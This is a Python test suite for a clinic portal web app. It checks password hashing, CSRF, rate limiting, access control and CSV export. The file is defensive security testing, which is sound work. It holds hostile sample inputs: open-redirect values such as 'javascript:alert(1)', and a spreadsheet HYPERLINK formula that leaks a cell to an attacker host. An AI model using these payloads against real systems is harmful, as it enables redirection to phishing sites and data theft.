"""The web app (login, clinic portal, accounts) on real SQLite and PostgreSQL, with CSRF on.

Tests drive it like a browser: they read the CSRF token from the rendered form and post it back.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterator
from types import SimpleNamespace
from urllib.parse import parse_qs, urlsplit

import pytest
from argon2 import PasswordHasher
from flask import Flask, url_for
from sqlalchemy import select
from sqlalchemy.engine import Engine

import web
from bot.auth import authenticate, create_user, hash_password, needs_rehash, verify_password
from bot.db import session_scope
from bot.inquiries.service import save_inquiry
from bot.models import Inquiry, User, utcnow
from tests.web_helpers import (  # noqa: F401 - fixtures are used by name
    CSRF_FIELD,
    LOGIN_FAILED,
    PASSWORD,
    _secrets,
    _without_tokens,
    app,
    csrf_token,
    inquiry_request,
    link_shown,
    logged_in,
    login,
    path_of,
    text,
    use_link,
    world,
)

OTHER_REFERENCE_ARGS = {"reference": "KT-2222-2222", "user_id": 1}


def inquiry_row(engine: Engine, reference: str) -> Inquiry:
    with session_scope(engine) as session:
        return session.execute(select(Inquiry).where(Inquiry.reference == reference)).scalar_one()


def routes(app: Flask, *blueprints: str) -> Iterator[tuple[str, str]]:
    """(method, path) of every route of these blueprints, with sample URL arguments."""
    for rule in app.url_map.iter_rules():
        if rule.endpoint.split(".")[0] not in blueprints:
            continue
        values = {name: OTHER_REFERENCE_ARGS[name] for name in rule.arguments}
        with app.test_request_context():
            path = url_for(rule.endpoint, **values)
        for method in sorted(rule.methods - {"HEAD", "OPTIONS"}):
            yield method, path


# ---------------------------------------------------------------- passwords and accounts (bot.auth)


def test_password_hashes_are_argon2id_salted_and_never_the_password() -> None:
    first, second = hash_password(PASSWORD), hash_password(PASSWORD)
    assert first.startswith("$argon2id$") and second.startswith("$argon2id$")
    assert first != second and PASSWORD not in first
    assert verify_password(first, PASSWORD) and not verify_password(first, PASSWORD + "!")
    assert not needs_rehash(first)


def test_production_hashes_with_rfc_9106_and_refuses_the_test_profile(monkeypatch: pytest.MonkeyPatch) -> None:
    from bot import auth

    monkeypatch.delenv("PASSWORD_HASH_PROFILE")
    auth._hasher.cache_clear()
    try:
        assert hash_password(PASSWORD).startswith("$argon2id$v=19$m=65536,t=3,p=4$")
        monkeypatch.setenv("PASSWORD_HASH_PROFILE", "CHEAPEST")
        monkeypatch.setenv("REQUIRE_ENV_SECRETS", "true")
        auth._hasher.cache_clear()
        with pytest.raises(ValueError, match="RFC_9106_LOW_MEMORY"):
            hash_password(PASSWORD)
        monkeypatch.setenv("PASSWORD_HASH_PROFILE", "NO_SUCH_PROFILE")
        monkeypatch.delenv("REQUIRE_ENV_SECRETS")
        auth._hasher.cache_clear()
        with pytest.raises(ValueError, match="NO_SUCH_PROFILE"):
            hash_password(PASSWORD)
    finally:
        auth._hasher.cache_clear()


@pytest.mark.parametrize("bad_hash", ["", "not a hash", "$argon2id$v=19$m=1,t=1,p=1$broken", "$2b$12$bcryptlike"])
def test_verifying_against_a_malformed_hash_is_false_not_an_error(bad_hash: str) -> None:
    assert verify_password(bad_hash, PASSWORD) is False
    assert needs_rehash(bad_hash) is True


def test_unknown_email_still_costs_a_hash_verification(sqlite_engine: Engine, verified_hashes: list[str]) -> None:
    calls = verified_hashes
    with session_scope(sqlite_engine) as session:
        assert authenticate(session, "nobody@example.org", PASSWORD) is None
    assert len(calls) == 1 and calls[0].startswith("$argon2id$")


def test_create_user_stores_an_argon2_hash_and_a_normalised_email(world: SimpleNamespace) -> None:
    with session_scope(world.engine) as session:
        user = create_user(session, "  New.Person@C1.Example ", PASSWORD, "clinic", "c1")
        assert user.email == "new.person@c1.example" and user.clinic.ref == "c1" and user.active
        assert user.password_hash.startswith("$argon2id$") and PASSWORD not in user.password_hash
    with session_scope(world.engine) as session:
        assert authenticate(session, "NEW.person@c1.example", PASSWORD).email == "new.person@c1.example"


@pytest.mark.parametrize(
    "email, password, role, clinic_ref, message",
    [
        ("not-an-email", PASSWORD, "admin", None, "valid e-mail"),
        ("a b@example.org", PASSWORD, "admin", None, "valid e-mail"),
        ("new@example.org", "short pass1", "admin", None, "at least 12 characters"),
        ("new@example.org", PASSWORD, "superuser", None, "Unknown role"),
        ("new@example.org", PASSWORD, "clinic", None, "needs a clinic"),
        ("new@example.org", PASSWORD, "clinic", "nowhere", "no clinic with the reference"),
        ("new@example.org", PASSWORD, "editor", "c1", "Only clinic accounts"),
        ("ONE@c1.example", PASSWORD, "clinic", "c1", "already exists"),
    ],
)
def test_create_user_refuses_invalid_accounts_with_a_clear_message(
    world: SimpleNamespace, email: str, password: str, role: str, clinic_ref: str | None, message: str
) -> None:
    with session_scope(world.engine) as session:
        with pytest.raises(ValueError, match=message):
            create_user(session, email, password, role, clinic_ref)
        assert session.execute(select(User).where(User.email == "new@example.org")).first() is None


def test_outdated_hashes_are_upgraded_at_login(world: SimpleNamespace) -> None:
    weak = PasswordHasher(time_cost=1, memory_cost=8 * 1024, parallelism=1).hash(PASSWORD)
    with session_scope(world.engine) as session:
        session.execute(select(User).where(User.email == "admin@example.org")).scalar_one().password_hash = weak
    assert needs_rehash(weak)
    with session_scope(world.engine) as session:
        user = authenticate(session, "admin@example.org", PASSWORD)
        assert user is not None and user.last_login_at is not None
    with session_scope(world.engine) as session:
        stored = session.execute(select(User).where(User.email == "admin@example.org")).scalar_one()
        assert stored.password_hash != weak and not needs_rehash(stored.password_hash)
        assert verify_password(stored.password_hash, PASSWORD)


# ---------------------------------------------------------------- logging in and out


def test_login_lands_on_the_role_home_and_logout_needs_a_post(app: Flask, world: SimpleNamespace) -> None:
    client = app.test_client()
    response = login(client, "One@C1.example")
    assert response.status_code == 303 and path_of(response.location) == "/portal"
    cookie = response.headers["Set-Cookie"]
    assert "HttpOnly" in cookie and "SameSite=Lax" in cookie and "Expires=" in cookie
    page = client.get("/portal")
    assert page.status_code == 200 and "one@c1.example" in text(page) and "Log out" in text(page)
    with session_scope(world.engine) as session:
        assert session.execute(select(User).where(User.email == "one@c1.example")).scalar_one().last_login_at

    assert client.get("/logout").status_code == 405
    assert client.get("/portal").status_code == 200  # still logged in
    response = client.post("/logout", data={"csrf_token": csrf_token(page)})
    assert response.status_code == 303 and path_of(response.location) == "/login"
    assert "You have logged out." in text(client.get("/login"))
    assert client.get("/portal").status_code == 302


def test_staff_land_on_admin_and_next_is_followed_only_when_local(app: Flask, world: SimpleNamespace) -> None:
    response = login(app.test_client(), "admin@example.org")
    assert path_of(response.location) == "/admin"
    response = login(app.test_client(), "admin@example.org", next_url="/admin/accounts")
    assert response.location == "/admin/accounts"
    for hostile in ("//evil.example/x", "https://evil.example/", "/\\evil.example", "javascript:alert(1)"):
        response = login(app.test_client(), "admin@example.org", next_url=hostile)
        assert response.status_code == 303 and response.location == "/admin", hostile


def test_wrong_password_and_unknown_user_get_the_same_401_answer(app: Flask, world: SimpleNamespace) -> None:
    wrong = login(app.test_client(), "one@c1.example", "wrong password, long enough")
    unknown = login(app.test_client(), "nobody@c1.example", "wrong password, long enough")
    assert wrong.status_code == unknown.status_code == 401
    assert LOGIN_FAILED in text(wrong)
    assert _without_tokens(text(wrong), "one@c1.example") == _without_tokens(text(unknown), "nobody@c1.example")
    with session_scope(world.engine) as session:
        assert session.execute(select(User).where(User.email == "one@c1.example")).scalar_one().last_login_at is None


def test_an_empty_form_is_a_400_with_field_errors(app: Flask, world: SimpleNamespace) -> None:
    client = app.test_client()
    response = client.post("/login", data={"email": "", "password": "", "csrf_token": csrf_token(client.get("/login"))})
    assert response.status_code == 400
    assert "Enter your e-mail address." in text(response) and 'aria-invalid="true"' in text(response)


def test_a_disabled_account_cannot_log_in_and_its_open_session_ends(app: Flask, world: SimpleNamespace) -> None:
    client = logged_in(app, "one@c1.example")
    with session_scope(world.engine) as session:
        session.execute(select(User).where(User.email == "one@c1.example")).scalar_one().active = False
    response = client.get("/portal")
    assert response.status_code == 302 and path_of(response.location) == "/login"
    response = login(app.test_client(), "one@c1.example")
    assert response.status_code == 401 and LOGIN_FAILED in text(response)
    assert "disabled" not in text(response).lower()


def test_sessions_end_at_most_eight_hours_after_login(
    app: Flask, world: SimpleNamespace, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert app.permanent_session_lifetime == dt.timedelta(hours=8)
    client = logged_in(app, "one@c1.example")
    assert client.get("/portal").status_code == 200
    monkeypatch.setattr(web, "SESSION_LIFETIME", dt.timedelta(0))  # as if 8 hours had passed
    response = client.get("/portal")
    assert response.status_code == 302 and path_of(response.location) == "/login"


def test_changing_the_password_ends_other_sessions(app: Flask, world: SimpleNamespace) -> None:
    client = logged_in(app, "one@c1.example")
    with session_scope(world.engine) as session:
        user = session.execute(select(User).where(User.email == "one@c1.example")).scalar_one()
        user.password_hash = hash_password("a brand new password")
    assert client.get("/portal").status_code == 302


def test_login_attempts_are_rate_limited_per_address(app: Flask, world: SimpleNamespace) -> None:
    client = app.test_client()
    token = csrf_token(client.get("/login"))
    attacker = {"REMOTE_ADDR": "203.0.113.7"}
    guess = {"email": "one@c1.example", "password": "guess number one!", "csrf_token": token}
    right = dict(guess, password=PASSWORD)
    for _ in range(4):
        assert client.post("/login", data=guess, environ_base=attacker).status_code == 401
    for _ in range(3):  # successful logins do not use up the allowance (one office, many staff)
        assert client.post("/login", data=right, environ_base=attacker).status_code == 303
        token = csrf_token(client.get("/portal", environ_base=attacker))
        assert client.post("/logout", data={"csrf_token": token}, environ_base=attacker).status_code == 303
        guess["csrf_token"] = right["csrf_token"] = csrf_token(client.get("/login", environ_base=attacker))
    assert client.post("/login", data=guess, environ_base=attacker).status_code == 401  # the fifth failure
    blocked = client.post("/login", data=guess, environ_base=attacker)
    assert blocked.status_code == 429
    assert "Too many attempts" in text(blocked) and "Retry-After" in blocked.headers
    assert client.post("/login", data=right, environ_base=attacker).status_code == 429
    assert client.get("/login", environ_base=attacker).status_code == 200  # only POST is limited
    other = client.post("/login", data=right, environ_base={"REMOTE_ADDR": "198.51.100.9"})
    assert other.status_code == 303


# ---------------------------------------------------------------- CSRF


def test_login_without_or_with_a_forged_csrf_token_is_refused(app: Flask, world: SimpleNamespace) -> None:
    client = app.test_client()
    client.get("/login")
    credentials = {"email": "one@c1.example", "password": PASSWORD}
    missing = client.post("/login", data=credentials)
    assert missing.status_code == 400 and "security token" in text(missing)
    forged = client.post("/login", data=dict(credentials, csrf_token="forged"))
    assert forged.status_code == 400
    foreign_token = csrf_token(app.test_client().get("/login"))  # valid, but for another browser
    assert client.post("/login", data=dict(credentials, csrf_token=foreign_token)).status_code == 400
    assert client.get("/portal").status_code == 302  # not logged in


def test_status_change_and_logout_without_a_valid_csrf_token_are_refused(app: Flask, world: SimpleNamespace) -> None:
    client = logged_in(app, "one@c1.example")
    url = f"/portal/inquiries/{world.own}/status"
    assert client.post(url, data={"status": "closed"}).status_code == 400
    assert client.post(url, data={"status": "closed", "csrf_token": "forged"}).status_code == 400
    assert inquiry_row(world.engine, world.own).status == "new"
    assert client.post("/logout").status_code == 400
    assert client.post("/logout", data={"csrf_token": "forged"}).status_code == 400
    assert client.get("/portal").status_code == 200  # still logged in


# ---------------------------------------------------------------- who may open what


def test_anonymous_visitors_are_sent_to_login_from_every_portal_and_accounts_route(
    app: Flask, world: SimpleNamespace
) -> None:
    client = app.test_client()
    token = csrf_token(client.get("/login"))
    checked = list(routes(app, "portal", "accounts"))
    assert {path for _, path in checked} >= {
        "/portal",
        f"/portal/inquiries/{OTHER_REFERENCE_ARGS['reference']}",
        "/portal/export.csv",
        "/admin",
        "/admin/accounts",
        "/admin/accounts/new",
        "/admin/accounts/1/active",
    }
    for method, path in checked:
        response = client.open(path, method=method, data={"csrf_token": token} if method == "POST" else None)
        assert response.status_code == 302, (method, path, response.status_code)
        assert path_of(response.location) == "/login", (method, path)
        if method == "GET":  # a GET comes back here after login; a POST-only address would answer 405
            assert parse_qs(urlsplit(response.location).query)["next"] == [path]


def test_clinic_accounts_get_403_on_every_admin_route(app: Flask, world: SimpleNamespace) -> None:
    client = logged_in(app, "one@c1.example")
    token = csrf_token(client.get("/portal"))
    for method, path in routes(app, "accounts"):
        response = client.open(
            path, method=method, data={"csrf_token": token, "active": "0"} if method == "POST" else None
        )
        assert response.status_code == 403, (method, path)
        assert "Access denied" in text(response)
    with session_scope(world.engine) as session:
        assert session.get(User, 1).active


def test_staff_get_403_on_the_clinic_portal(app: Flask, world: SimpleNamespace) -> None:
    client = logged_in(app, "admin@example.org")
    token = csrf_token(client.get("/admin"))
    for method, path in routes(app, "portal"):
        response = client.open(
            path.replace(OTHER_REFERENCE_ARGS["reference"], world.other),
            method=method,
            data={"csrf_token": token, "status": "closed"} if method == "POST" else None,
        )
        assert response.status_code == 403, (method, path)
    assert inquiry_row(world.engine, world.other).status == "new"


def test_another_clinics_inquiry_is_404_on_every_route_that_takes_a_reference(
    app: Flask, world: SimpleNamespace
) -> None:
    client = logged_in(app, "one@c1.example")
    token = csrf_token(client.get("/portal"))
    before = inquiry_row(world.engine, world.other)
    with_reference = [
        (method, path) for method, path in routes(app, "portal") if OTHER_REFERENCE_ARGS["reference"] in path
    ]
    assert {method for method, _ in with_reference} == {"GET", "POST"}
    for method, path in with_reference:
        answers = []
        for reference in (world.other, "KT-ZZZZ-ZZZZ"):  # another clinic's, and one that does not exist
            response = client.open(
                path.replace(OTHER_REFERENCE_ARGS["reference"], reference),
                method=method,
                data={"csrf_token": token, "status": "closed"} if method == "POST" else None,
            )
            assert response.status_code == 404, (method, path)
            answers.append(CSRF_FIELD.sub("csrf", text(response)))
        assert answers[0] == answers[1], "a foreign inquiry must look exactly like a missing one"
        assert "Theo" not in answers[0] and "theo@example.com" not in answers[0]
    after = inquiry_row(world.engine, world.other)
    assert (after.status, after.updated_at) == ("new", before.updated_at)
    page = text(client.get("/portal"))
    assert world.own in page and world.other not in page


# ---------------------------------------------------------------- the portal


def test_inquiries_are_listed_newest_first_without_delivery_errors(app: Flask, world: SimpleNamespace) -> None:
    now = utcnow()
    with session_scope(world.engine) as session:
        older = save_inquiry(session, inquiry_request("c1", first_name="Older"))
        newest = save_inquiry(session, inquiry_request("c1", first_name="Newest"))
        older.created_at = now - dt.timedelta(days=2)
        newest.created_at = now + dt.timedelta(minutes=1)
        own = session.execute(select(Inquiry).where(Inquiry.reference == world.own)).scalar_one()
        own.created_at = now - dt.timedelta(days=1)
        email = own.notifications[0]
        email.status, email.attempts, email.last_error = "failed", 12, "SMTP 550 mailbox unavailable"
        newest.notifications[0].status, newest.notifications[0].sent_at = "sent", now
        references = [newest.reference, own.reference, older.reference]
    client = logged_in(app, "one@c1.example")
    page = text(client.get("/portal"))
    positions = [page.index(reference) for reference in references]
    assert positions == sorted(positions)
    assert "Olivia" in page and "olivia@example.com" in page and "weekday mornings" in page
    # Delivery problems are for administrators (the overview), never shown to the clinic.
    assert "SMTP 550" not in page and "12 attempts" not in page
    detail = text(client.get(f"/portal/inquiries/{world.own}"))
    assert "Interested in IV" in detail and "SMTP 550" not in detail and "failed" not in detail
    assert "E-mail sent" in text(client.get(f"/portal/inquiries/{newest.reference}"))


def test_the_list_is_paginated_by_50_and_filters_by_status(app: Flask, world: SimpleNamespace) -> None:
    start = utcnow() - dt.timedelta(days=10)
    with session_scope(world.engine) as session:
        own = session.execute(select(Inquiry).where(Inquiry.reference == world.own)).scalar_one()
        own.created_at, own.status = start - dt.timedelta(days=1), "contacted"  # the oldest
        for minute in range(50):
            save_inquiry(session, inquiry_request("c1")).created_at = start + dt.timedelta(minutes=minute)
    client = logged_in(app, "one@c1.example")
    first = text(client.get("/portal"))
    assert first.count('class="reference" href=') == 50 and world.own not in first
    assert "page 1 of 2" in first and "Older" in first
    second = text(client.get("/portal?page=2"))
    assert second.count('class="reference" href=') == 1 and world.own in second
    contacted = text(client.get("/portal?status=contacted"))
    assert contacted.count('class="reference" href=') == 1 and world.own in contacted
    assert client.get("/portal?status=bogus").status_code == 200


def test_a_clinic_can_change_the_status_of_its_inquiry(app: Flask, world: SimpleNamespace) -> None:
    client = logged_in(app, "one@c1.example")
    detail = client.get(f"/portal/inquiries/{world.own}")
    token = csrf_token(detail)
    response = client.post(f"/portal/inquiries/{world.own}/status", data={"status": "contacted", "csrf_token": token})
    assert response.status_code == 303 and path_of(response.location) == f"/portal/inquiries/{world.own}"
    assert inquiry_row(world.engine, world.own).status == "contacted"
    assert "now marked “Contacted”" in text(client.get(response.location))
    bad = client.post(f"/portal/inquiries/{world.own}/status", data={"status": "deleted", "csrf_token": token})
    assert bad.status_code == 400 and inquiry_row(world.engine, world.own).status == "contacted"


def test_the_export_holds_only_own_inquiries_and_neutralises_formulas(app: Flask, world: SimpleNamespace) -> None:
    with session_scope(world.engine) as session:
        hostile = save_inquiry(
            session,
            inquiry_request(
                "c1",
                first_name="@Mallory",
                contact="+1 404 555 0100",
                contact_kind="phone",
                note='=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
            ),
        ).reference
        save_inquiry(session, inquiry_request("c2", first_name="Other clinic person"))
    client = logged_in(app, "one@c1.example")
    response = client.get("/portal/export.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.headers["Cache-Control"] == "no-store"
    assert response.headers["Content-Disposition"] == (f'attachment; filename="inquiries-c1-{utcnow():%Y-%m-%d}.csv"')
    rows = list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert sorted(row["reference"] for row in rows) == sorted([world.own, hostile])
    by_reference = {row["reference"]: row for row in rows}
    assert by_reference[world.own]["contact"] == "olivia@example.com"
    assert by_reference[world.own]["first_name"] == "Olivia"
    attack = by_reference[hostile]
    assert attack["note"].startswith("'=HYPERLINK(")
    assert attack["first_name"] == "'@Mallory" and attack["contact"] == "'+1 404 555 0100"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
    assert "Other clinic person" not in response.data.decode("utf-8-sig")


# ---------------------------------------------------------------- accounts (admin)


def test_an_admin_creates_a_clinic_account_that_can_then_log_in(app: Flask, world: SimpleNamespace) -> None:
    admin = logged_in(app, "admin@example.org")
    form = admin.get("/admin/accounts/new")
    assert form.status_code == 200 and "Clinic c1 (sample) (Atlanta, GA)" in text(form)
    response = admin.post(
        "/admin/accounts/new",
        data={"email": "Front.Desk@C1.example", "role": "clinic", "clinic": "c1", "csrf_token": csrf_token(form)},
    )
    assert response.status_code == 200 and "Account created for front.desk@c1.example" in text(response)
    listing = text(admin.get("/admin/accounts"))
    assert "front.desk@c1.example" in listing and "Never" in listing and "invitation not used yet" in listing
    assert use_link(app, link_shown(response), "initial password 2026").status_code == 303
    with session_scope(world.engine) as session:
        stored = session.execute(select(User).where(User.email == "front.desk@c1.example")).scalar_one()
        assert stored.role == "clinic" and stored.password_hash.startswith("$argon2id$")
        assert "initial password 2026" not in stored.password_hash

    clinic = app.test_client()
    response = login(clinic, "front.desk@c1.example", "initial password 2026")
    assert response.status_code == 303 and path_of(response.location) == "/portal"
    page = text(clinic.get("/portal"))
    assert world.own in page and world.other not in page


def test_the_new_account_form_shows_validation_errors(app: Flask, world: SimpleNamespace) -> None:
    admin = logged_in(app, "admin@example.org")
    token = csrf_token(admin.get("/admin/accounts/new"))
    cases = [
        ({"email": "x@c1.example", "role": "clinic", "clinic": ""}, "needs a clinic"),
        ({"email": "one@c1.example", "role": "clinic", "clinic": "c1"}, "already exists"),
        ({"email": "no-at-sign", "role": "editor", "clinic": ""}, "valid e-mail"),
    ]
    for data, message in cases:
        response = admin.post("/admin/accounts/new", data=dict(data, csrf_token=token))
        assert response.status_code == 400 and message in text(response), (data, message)
    with session_scope(world.engine) as session:
        assert len(session.execute(select(User)).scalars().all()) == 3


def test_an_admin_disables_and_enables_accounts_but_not_themself(app: Flask, world: SimpleNamespace) -> None:
    admin = logged_in(app, "admin@example.org")
    token = csrf_token(admin.get("/admin/accounts"))
    with session_scope(world.engine) as session:
        ids = {user.email: user.id for user in session.execute(select(User)).scalars()}
    response = admin.post(f"/admin/accounts/{ids['one@c1.example']}/active", data={"active": "0", "csrf_token": token})
    assert response.status_code == 303
    assert login(app.test_client(), "one@c1.example").status_code == 401
    admin.post(f"/admin/accounts/{ids['one@c1.example']}/active", data={"active": "1", "csrf_token": token})
    assert login(app.test_client(), "one@c1.example").status_code == 303

    own = admin.post(f"/admin/accounts/{ids['admin@example.org']}/active", data={"active": "0", "csrf_token": token})
    assert own.status_code == 400 and "cannot disable your own account" in text(own)
    assert admin.post("/admin/accounts/9999/active", data={"active": "0", "csrf_token": token}).status_code == 404
    with session_scope(world.engine) as session:
        assert session.get(User, ids["admin@example.org"]).active
    assert admin.get("/admin/accounts").status_code == 200


# ---------------------------------------------------------------- pages and headers


def test_security_headers_and_plain_error_pages(app: Flask, world: SimpleNamespace) -> None:
    client = app.test_client()
    for response in (client.get("/login"), client.get("/nowhere")):
        assert "default-src 'self'" in response.headers["Content-Security-Policy"]
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert response.headers["X-Frame-Options"] == "DENY"
        assert response.headers["Referrer-Policy"] == "same-origin"
        assert response.headers["Cache-Control"] == "no-store"
    missing = client.get("/nowhere")
    assert missing.status_code == 404 and "Page not found" in text(missing)
    assert "<main" in text(missing) and 'href="#main"' in text(missing)
    not_allowed = client.get("/logout")
    assert not_allowed.status_code == 405 and "POST" in not_allowed.headers["Allow"]
    css = client.get("/static/app.css")
    assert css.status_code == 200 and "no-store" not in css.headers.get("Cache-Control", "")
    css.close()
